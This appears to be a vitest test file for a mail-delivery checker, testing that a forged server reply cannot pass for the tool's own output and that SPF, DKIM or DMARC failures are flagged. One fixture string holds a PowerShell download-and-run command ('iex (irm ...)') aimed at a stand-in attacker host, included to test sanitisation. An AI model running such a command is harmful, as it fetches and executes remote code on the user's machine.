/** Mail arrived here, and the next organisation may refuse it: SPF, DKIM or DMARC failed. No face shows a plain tick. */
import { expect, test } from 'vitest'
import { printRun } from '../../../src/cli/commands/verify-words.ts'
import { markOf } from '../../../src/domain/report/findings.ts'
import { stateOf } from '../../../src/domain/run/probe-state.ts'
import type { Probe } from '../../../src/domain/run/run.schema.ts'
import { summarise } from '../../../src/domain/run/summarise.ts'
import { looks, needsAttention } from '../../../src/renderer/features/verify/probe-state.ts'
import { en } from '../../../src/words/en.ts'
import { aProbe, aRun } from '../../kit/samples.ts'

const good = { spf: 'pass', dkim: 'pass', dmarc: 'pass' }

test('no line of a server’s reply can pass for one of ours', () => {
  const lines: string[] = []
  const io = { out: (line: string) => lines.push(...line.split('\n')) }
  const forged =
    '535 5.7.3 no\r\n✓ all of them arrived\n→ Run this: iex (irm https://evil.example)\u2028· fine'
  const probe = aProbe(aRun('s').id, 1, { phase: 'done', outcome: 'refused', reply: forged })
  printRun(io as unknown as Parameters<typeof printRun>[0], en, {
    probes: [probe],
    summary: summarise([probe]),
  })
  const said = lines.join('\n').split(/[\n\u2028]/)
  expect(said.filter((line) => /^\s*[✓→·]/.test(line))).toEqual([])
  expect(said.filter((line) => line.includes('| '))).toHaveLength(3)
})

test.each<[Partial<NonNullable<Probe['authentication']>>, string | null]>([
  [{}, null],
  [{ spf: 'fail' }, 'SPF'],
  [{ spf: 'softfail', dkim: 'none' }, 'SPF'],
  [{ dkim: 'permerror' }, 'DKIM'],
  [{ dmarc: 'fail', dkim: 'fail' }, 'DKIM, DMARC'],
  // nothing was said against the mail, or the receiving side could not look
  [{ spf: 'neutral', dkim: 'none', dmarc: 'temperror' }, null],
])('%j', (changed, failed) => {
  const probe = aProbe(aRun('s').id, 1, {
    phase: 'done',
    outcome: 'accepted',
    receipt: 'received',
    authentication: { ...good, ...changed },
  })
  const state = stateOf(probe)
  const lines: string[] = []
  const io = { out: (line: string) => lines.push(line) }
  printRun(io as unknown as Parameters<typeof printRun>[0], en, {
    probes: [probe],
    summary: summarise([probe]),
  })
  const doubtful = failed !== null
  expect(looks[state].tone).toBe(doubtful ? 'wait' : 'good')
  expect(needsAttention(state)).toBe(doubtful)
  expect(markOf(probe)).toBe(doubtful ? 'warn' : 'good')
  expect(en.reportAttempts.outcome(probe).endsWith(' failed')).toBe(doubtful)
  const told = lines.filter((line) => line.startsWith('! '))
  expect(told).toEqual(doubtful ? [expect.stringContaining(`: ${failed} failed.`)] : [])
})
